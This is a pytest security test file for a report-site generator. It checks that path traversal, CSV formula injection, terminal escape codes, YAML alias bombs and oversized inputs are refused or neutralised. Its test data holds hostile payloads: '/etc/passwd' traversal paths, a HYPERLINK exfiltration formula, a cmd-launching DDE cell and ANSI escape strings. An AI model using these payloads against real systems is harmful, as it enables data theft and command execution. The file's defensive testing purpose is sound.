"""Issue 13, as an attacker would try it: nothing written outside --out, no formula in a CSV,
no lost build, never a traceback. Each test is one case the issue reported broken."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from generator.cli import main
from generator.errors import InputError
from generator.site import writer
from generator.site.archive import zip_site
from generator.site.assemble import csv_bytes
from tests.helpers import TINY_EVENTS, tiny_report

ROOT = Path(__file__).resolve().parent.parent


def run(capsys, *args):
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_complete_build(out: Path) -> dict:
    """The folder holds a whole build: its manifest and every page and CSV it lists."""
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["generator"] == "carejourneys"
    for page in manifest["pages"]:
        assert (out / page["file"]).is_file(), page["file"]
    for chart in manifest["charts"]:
        assert (out / chart["csv"]).is_file(), chart["csv"]
    return manifest


def _build_args(report: Path, out: Path) -> list[str]:
    return ["build", str(report), "--out", str(out), "-q"]


def leftovers(parent: Path, name: str = "out") -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{name}."))


def files_under(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*")}


# ----------------------------------------------------------------------------- 1. slugs
@pytest.mark.parametrize("slug", ["../../x", "/tmp/evil", "javascript:alert(1)//", "a&b", "Upper", "a/b"])
def test_a_slug_outside_the_pattern_exits_2_naming_its_key_and_writes_nothing(tmp_path, capsys, slug):
    report = tiny_report(tmp_path / "r", pages=f"\n  - {{kind: overview, slug: index, title: O}}\n"
                                                f"  - {{kind: trends, slug: {json.dumps(slug)}, title: T}}\n")
    before = files_under(tmp_path)
    code, _, err = run(capsys, "build", report, "--out", tmp_path / "r" / "out", "--zip", "--single-file")
    assert code == 2, err
    assert "pages[1].slug" in err and "Traceback" not in err
    assert files_under(tmp_path) == before


def test_the_writer_refuses_a_file_name_that_leaves_the_build(tmp_path):
    with pytest.raises(InputError, match="outside the output folder"):
        writer.write_site(tmp_path / "out", {"index.html": b"ok", "../escaped.html": b"x"})
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_the_zip_refuses_an_entry_that_unpacks_outside_its_folder():
    for name in ("../x.csv", "/etc/x", "a/../../x"):
        with pytest.raises(InputError):
            zip_site({"index.html": b"ok", name: b"x"}, "report")


# ----------------------------------------------------------------------------- 2. CSV formulas
OWASP = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd", "\tx", "\rx"]


def test_formula_cells_are_prefixed_and_numbers_stay_numbers():
    frame = pd.DataFrame({"label": OWASP + ["-3", "plain"], "count": [-1, 2, 3, 4, 5, 6, 7, 8],
                          "rate": [-0.5] * 8})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v.replace("\r", "\n") for v in OWASP] + ["-3", "plain"]
    assert [r[1] for r in rows[1:]][:1] == ["-1"] and {r[2] for r in rows[1:]} == {"-0.5"}


def _is_formula(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def test_no_download_of_a_built_report_holds_a_formula(tmp_path):
    # Child ids reach data_quality.csv as examples (internal report); codes reach other tables.
    events = TINY_EVENTS + "".join(f'"{v.replace(chr(34), chr(34) * 2)}",contact,2015-05-0{i + 1},,\n'
                                   for i, v in enumerate(OWASP[:4]))
    events = events.replace("B2,referral,2015-03-02,R3,", 'B2,referral,2015-03-02,R3,"=1+cmd"')
    pages = "\n  - {kind: overview, slug: index, title: O}\n" + "".join(
        f"  - {{kind: {k}, slug: {k.replace('_', '-')}, title: {k}}}\n"
        for k in ("trends", "flows", "events", "data_quality", "cohorts", "workload"))
    out = tmp_path / "out"
    assert main(_build_args(tiny_report(tmp_path, events=events, pages=pages), out)) == 0
    downloads = sorted((out / "downloads").glob("*.csv"))
    assert len(downloads) > 10
    neutralised = 0
    for path in downloads:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            assert not any(_is_formula(cell) for cell in row), (path.name, row)
            neutralised += sum(cell.startswith(("'=", "'+", "'-", "'@")) for cell in row)
    assert neutralised >= 1  # the hostile values did reach a download, neutralised


# ----------------------------------------------------------------------------- 3. the swap
def _subprocess(code: str, *args: str) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", code, *args], cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)


CLI = "import sys; from generator.cli import main; sys.exit(main(sys.argv[1:]))"


def test_two_builds_to_one_folder_at_once_leave_one_complete_build_and_no_leftovers(tmp_path):
    report = tiny_report(tmp_path)
    out = tmp_path / "out"
    builds = [_subprocess(CLI, *_build_args(report, out)) for _ in range(2)]
    results = [(b.wait(timeout=300), b.stderr.read()) for b in builds]
    codes = sorted(code for code, _ in results)
    assert codes in ([0, 0], [0, 2]), results
    for code, err in results:
        assert "Traceback" not in err
        if code == 2:
            assert "another carejourneys build" in err
    assert_complete_build(out)
    assert leftovers(tmp_path) == []


def test_a_second_build_while_one_holds_the_folder_exits_2_at_once(tmp_path, capsys):
    report = tiny_report(tmp_path)
    out = tmp_path / "out"
    holder = _subprocess("import sys, time; from pathlib import Path; from generator.site.writer import claim_target\n"
                         "with claim_target(Path(sys.argv[1])):\n    print('held', flush=True); time.sleep(60)", str(out))
    try:
        assert holder.stdout.readline().strip() == "held"
        started = time.perf_counter()
        code, _, err = run(capsys, *_build_args(report, out))
        assert code == 2 and f"process {holder.pid}" in err and "another carejourneys build" in err
        assert time.perf_counter() - started < 5  # refused before reading any data
    finally:
        holder.kill()
        holder.wait()
    assert run(capsys, *_build_args(report, out))[0] == 0  # a dead holder's lock is no claim
    assert_complete_build(out)


def test_a_failing_exchange_leaves_the_previous_build_whole(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    out = tmp_path / "out"
    assert run(capsys, *_build_args(report, out))[0] == 0
    before = {p: (out / p).read_bytes() for p in files_under(out) if (out / p).is_file()}

    def failing(first, second):
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(writer, "exchange", failing)
    code, _, err = run(capsys, *_build_args(report, out))
    assert code == 2 and "could not be written" in err and "Traceback" not in err
    assert {p: (out / p).read_bytes() for p in before} == before
    assert leftovers(tmp_path) == []


def test_a_failing_second_rename_of_the_fallback_puts_the_previous_build_back(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    out = tmp_path / "out"
    assert run(capsys, *_build_args(report, out))[0] == 0
    manifest = (out / "manifest.json").read_bytes()
    monkeypatch.setattr(writer, "exchange", lambda first, second: False)
    real_replace = os.replace

    def replace(source, target):
        if ".tmp-" in str(source):
            raise OSError(28, "No space left on device")
        real_replace(source, target)

    monkeypatch.setattr(writer.os, "replace", replace)
    code, _, err = run(capsys, *_build_args(report, out))
    assert code == 2 and "No space left on device" in err
    assert (out / "manifest.json").read_bytes() == manifest
    assert_complete_build(out)
    assert leftovers(tmp_path) == []


KILL_AFTER_EXCHANGE = """
import os, signal, sys
from generator.site import writer
from generator.cli import main
real = writer.exchange
def exchange(first, second):
    done = real(first, second)
    os.kill(os.getpid(), signal.SIGKILL)  # killed between the exchange and the clean-up
writer.exchange = exchange
sys.exit(main(sys.argv[1:]))
"""
KILL_BETWEEN_RENAMES = """
import os, signal, sys
from generator.site import writer
from generator.cli import main
writer.exchange = lambda first, second: False  # an OS without renameat2: the two renames
real = os.replace
def replace(source, target):
    real(source, target)
    if ".old-" in str(target):
        os.kill(os.getpid(), signal.SIGKILL)  # killed between the two renames
writer.os.replace = replace
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("script", [KILL_AFTER_EXCHANGE, KILL_BETWEEN_RENAMES], ids=["exchange", "two-renames"])
def test_a_build_killed_between_steps_leaves_a_complete_build(tmp_path, capsys, script):
    report = tiny_report(tmp_path)
    out = tmp_path / "out"
    assert run(capsys, *_build_args(report, out))[0] == 0
    killed = _subprocess(script, *_build_args(report, out))
    assert killed.wait(timeout=300) == -signal.SIGKILL
    if script is KILL_AFTER_EXCHANGE:
        assert_complete_build(out)  # one atomic step: the new build is whole
    assert leftovers(tmp_path)  # the killed build's staging (and lock) are still there
    # The next build puts any previous build back, removes the dead build's folders, builds.
    assert run(capsys, *_build_args(report, out))[0] == 0
    assert_complete_build(out)
    assert leftovers(tmp_path) == []


def test_staging_folders_of_dead_builds_are_removed_by_the_next_build(tmp_path, capsys):
    report = tiny_report(tmp_path)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = tmp_path / f".out.tmp-{int(dead.stdout)}"
    (stale / "downloads").mkdir(parents=True)
    (stale / "downloads" / "ids.csv").write_text("child_id\nA1\n")
    assert run(capsys, *_build_args(report, tmp_path / "out"))[0] == 0
    assert not stale.exists() and leftovers(tmp_path) == []


def test_the_linux_exchange_swaps_two_folders_in_one_step(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "new").write_text("")
    if not writer.exchange(tmp_path / "a", tmp_path / "b"):
        pytest.skip("this OS or file system has no RENAME_EXCHANGE (the fallback is tested above)")
    assert (tmp_path / "b" / "new").is_file() and not any((tmp_path / "a").iterdir())


# ----------------------------------------------------------------------------- 4. the target
def test_an_output_folder_under_a_file_exits_2_before_any_work(tmp_path, capsys):
    (tmp_path / "afile").write_text("x")
    code, _, err = run(capsys, *_build_args(tiny_report(tmp_path), tmp_path / "afile" / "out"))
    assert code == 2 and "is a file, not a folder" in err


def test_a_full_disk_is_refused_before_any_work(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    monkeypatch.setattr(writer.shutil, "disk_usage", lambda path: type("U", (), {"free": 1024})())
    monkeypatch.setattr("generator.build.load", lambda *a, **k: pytest.fail("data read before the check"))
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "too little free space" in err


def test_a_read_only_parent_is_refused_before_any_work(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    monkeypatch.setattr(writer.os, "access", lambda path, mode: False)  # root ignores chmod
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "no permission to write" in err


def test_a_disk_that_fills_while_writing_exits_2_and_keeps_the_previous_build(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    out = tmp_path / "out"
    assert run(capsys, *_build_args(report, out))[0] == 0
    manifest = (out / "manifest.json").read_bytes()
    real = Path.write_bytes

    def write_bytes(self, data):
        if self.name == "report.css":
            raise OSError(28, "No space left on device")
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", write_bytes)
    code, _, err = run(capsys, *_build_args(report, out))
    assert code == 2 and "No space left on device" in err and "Traceback" not in err
    assert (out / "manifest.json").read_bytes() == manifest and leftovers(tmp_path) == []


# ----------------------------------------------------------------------------- 5. dates
def _without_period(report: Path) -> Path:
    report.write_text(report.read_text().replace("annotations:\n  - {date: 2015-06-01, label: New front door}\n", ""))
    return report


@pytest.mark.parametrize("date", ["1678-03-02", "2261-03-02", "9999-12-31", "31/12/9999", "99999"])
def test_an_event_date_outside_1900_2100_exits_2_naming_the_row(tmp_path, capsys, date):
    report = _without_period(tiny_report(tmp_path, events=TINY_EVENTS + f"B2,contact,{date},,\n"))
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "Traceback" not in err
    assert "row 13, column 'date'" in err and ("1900-2100" in err or "no date" in err)


def test_a_typo_year_inside_the_range_builds_the_map_over_a_century(tmp_path, capsys):
    pages = "\n  - {kind: overview, slug: index, title: O}\n  - {kind: pathway_map, slug: map, title: M}\n"
    report = _without_period(tiny_report(tmp_path, events=TINY_EVENTS + "B2,contact,1916-03-02,,\n", pages=pages))
    assert run(capsys, *_build_args(report, tmp_path / "out"))[0] == 0


@pytest.mark.parametrize("suffix", [".xlsx", ".parquet"])
def test_an_open_ended_date_cell_in_excel_or_parquet_exits_2_not_1(tmp_path, capsys, suffix):
    report = _without_period(tiny_report(tmp_path))
    events = pd.DataFrame({"child_id": ["A1", "A1"], "event": ["referral", "contact"],
                           "date": [dt.datetime(2015, 1, 5), dt.datetime(9999, 12, 31)]})
    (tmp_path / "data" / "events.csv").unlink()
    if suffix == ".xlsx":
        events.to_excel(tmp_path / "data" / "events.xlsx", index=False)
    else:
        events["date"] = events["date"].astype("datetime64[us]")
        events.to_parquet(tmp_path / "data" / "events.parquet", index=False)
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "no date" in err and "Traceback" not in err


def test_an_open_ended_end_date_in_a_903_return_is_an_open_episode_with_a_finding(tmp_path):
    from generator.ingest import read_sources

    source = (ROOT / "tests" / "fixtures" / "903" / "episodes_2017.csv").read_text()
    header, first, *rest = source.splitlines()
    columns = header.split(",")
    cells = first.split(",")
    cells[columns.index("DEC")] = "9999-12-31"
    data = tmp_path / "903"
    data.mkdir()
    (data / "episodes_2017.csv").write_text("\n".join([header, ",".join(cells), *rest]) + "\n")
    (data / "header_2017.csv").write_bytes((ROOT / "tests" / "fixtures" / "903" / "header_2017.csv").read_bytes())
    log, _, findings = read_sources([data])
    placeholder = [f for f in findings if f.check == "placeholder dates"]
    assert len(placeholder) == 1 and placeholder[0].count == 1 and "DEC" in placeholder[0].message
    assert log.events["date"].max() < pd.Timestamp("2100-01-01")


@pytest.mark.parametrize("entry, key", [("annotations:\n  - {date: 9999-12-31, label: x}\n", "annotations[0].date"),
                                        ("period: {start: 1678-01-01, end: 2015-12-31}\n", "period.start")])
def test_a_report_date_outside_1900_2100_exits_2_with_its_key_path(tmp_path, capsys, entry, key):
    report = _without_period(tiny_report(tmp_path, extra=entry))
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and key in err


# ----------------------------------------------------------------------------- 6. terminal
def test_rich_markup_in_a_title_or_the_out_folder_is_printed_as_text(tmp_path, capsys):
    report = tiny_report(tmp_path, pages="\n  - {kind: overview, slug: index, title: 'Overview [/]'}\n"
                                         "  - {kind: trends, slug: t, title: '[bold red]x'}\n")
    code, _, err = run(capsys, "build", report, "--out", tmp_path / "out[/]")
    assert code == 0, err
    assert "out[/]" in err


def test_progress_prints_data_as_text_and_only_its_own_styling(capsys):
    from generator.progress import Progress

    progress = Progress()
    with progress.step("Building page 'Overview [/]'"):
        pass
    progress.say("title [/] and [bold red]x[/bold red]")
    progress.warn("file [/]: \x1b[31mred")
    err = capsys.readouterr().err
    assert "title [/] and [bold red]x[/bold red]" in err
    assert "warning file [/]: [31mred" in err and "\x1b" not in err


def test_control_characters_from_the_data_never_reach_the_terminal(tmp_path, capsys):
    hostile = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
    events = TINY_EVENTS + f"{hostile}X,contact,2015-05-01,,\n"  # no children row: a finding with examples
    report = tiny_report(tmp_path, events=events)
    code, out, err = run(capsys, "validate", report)
    assert code == 0
    assert "pwned" in out and not any(c in out + err for c in "\x1b\x07\x9b")


# ----------------------------------------------------------------------------- 7. YAML
def test_an_alias_bomb_in_a_map_exits_2_fast_with_a_short_message(tmp_path, capsys):
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"] + [
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)]
    (tmp_path / "bomb.yaml").write_text("\n".join(lines) + "\n")
    report = tiny_report(tmp_path, pages="\n  - {kind: overview, slug: index, title: O}\n"
                                         "  - {kind: pathway_map, slug: map, title: M, map: bomb.yaml}\n")
    started = time.perf_counter()
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "expands its aliases" in err and len(err) < 2000
    assert time.perf_counter() - started < 30


def test_deeply_nested_yaml_exits_2_with_its_line(tmp_path, capsys):
    report = tiny_report(tmp_path)
    report.write_text(report.read_text() + "deep: " + "[" * 5000 + "]" * 5000 + "\n")
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "more than 50 deep" in err and "line " in err


def test_a_station_at_nan_exits_2(tmp_path, capsys):
    text = (ROOT / "content" / "maps" / "front_door.yaml").read_text()
    (tmp_path / "nan.yaml").write_text(text.replace("at: [0, 2]", "at: [.nan, 0]", 1))
    report = tiny_report(tmp_path, pages="\n  - {kind: overview, slug: index, title: O}\n"
                                         "  - {kind: pathway_map, slug: map, title: M, map: nan.yaml}\n")
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "stations[0].at" in err


def test_a_huge_received_value_is_shown_cut_short(tmp_path, capsys):
    report = tiny_report(tmp_path, extra="audience: " + "x" * 100_000)
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "audience" in err and len(err) < 2000


# ----------------------------------------------------------------------------- 8. workbooks
def _workbook(path: Path, rows: int) -> None:
    pd.DataFrame({"child_id": [f"C{i}" for i in range(rows)], "event": "contact",
                  "date": "2015-01-05", "note": "x" * 200}).to_excel(path, index=False)


def test_a_workbook_over_the_size_limit_exits_2_naming_the_limit_and_how_to_raise_it(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    _workbook(tmp_path / "data" / "big.xlsx", 8000)  # ~2 MB of XML in a ~100 kB file
    monkeypatch.setenv("CAREJOURNEYS_MAX_WORKBOOK_MB", "1")
    code, _, err = run(capsys, "validate", report)
    assert code == 2 and "over the limit of 1 MB" in err and "CAREJOURNEYS_MAX_WORKBOOK_MB=" in err


def test_a_sheet_over_the_row_limit_exits_2_naming_the_limit(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    _workbook(tmp_path / "data" / "big.xlsx", 50)
    monkeypatch.setenv("CAREJOURNEYS_MAX_SHEET_ROWS", "20")
    code, _, err = run(capsys, "validate", report)
    assert code == 2 and "more than 20 rows" in err and "CAREJOURNEYS_MAX_SHEET_ROWS" in err


def test_each_workbook_is_read_once(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    _workbook(tmp_path / "data" / "more.xlsx", 5)
    reads = []
    real = pd.read_excel
    monkeypatch.setattr(pd, "read_excel", lambda *a, **k: reads.append(a[0]) or real(*a, **k))
    assert run(capsys, "validate", report)[0] == 0
    assert len(reads) == 1


# ----------------------------------------------------------------------------- 9. paths
def test_sources_outside_the_report_folder_are_refused_with_their_key(tmp_path, capsys):
    outside = tmp_path / "elsewhere"
    tiny_report(outside)
    report = tiny_report(tmp_path / "r", data=str(outside / "data"))
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "sources[0].path" in err and "outside the report's folder" in err
    # The same data given on the command line is the user's explicit choice.
    assert run(capsys, "build", report, "--data", outside / "data", "--out", tmp_path / "out", "-q")[0] == 0


@pytest.mark.parametrize("page", ["{kind: markdown, slug: about, title: A, source: /etc/passwd}",
                                  "{kind: markdown, slug: about, title: A, source: ../../../../etc/passwd}",
                                  "{kind: pathway_map, slug: map, title: M, map: ../outside.yaml}"])
def test_a_page_file_outside_the_report_folder_is_refused(tmp_path, capsys, page):
    (tmp_path / "outside.yaml").write_text((ROOT / "content" / "maps" / "front_door.yaml").read_text())
    report = tiny_report(tmp_path / "r", pages=f"\n  - {{kind: overview, slug: index, title: O}}\n  - {page}\n")
    code, _, err = run(capsys, *_build_args(report, tmp_path / "out"))
    assert code == 2 and "outside the report's folder" in err
    assert not (tmp_path / "out").exists()


def test_build_data_dot_never_reads_its_own_output(tmp_path, capsys, monkeypatch):
    report = tiny_report(tmp_path)
    monkeypatch.chdir(tmp_path / "data")
    for _ in range(2):  # the second build finds the first one's build/ inside the data
        code, _, err = run(capsys, "build", report, "--data", ".", "--out", "build", "-q")
        assert code == 0, err
    manifest = assert_complete_build(tmp_path / "data" / "build")
    assert [i["name"] for i in manifest["inputs"]] == ["children.csv", "events.csv"]


def test_a_build_folder_given_as_data_is_refused(tmp_path, capsys):
    report = tiny_report(tmp_path)
    assert run(capsys, *_build_args(report, tmp_path / "out"))[0] == 0
    code, _, err = run(capsys, "validate", report, "--data", tmp_path / "out")
    assert code == 2 and "is a carejourneys build folder" in err

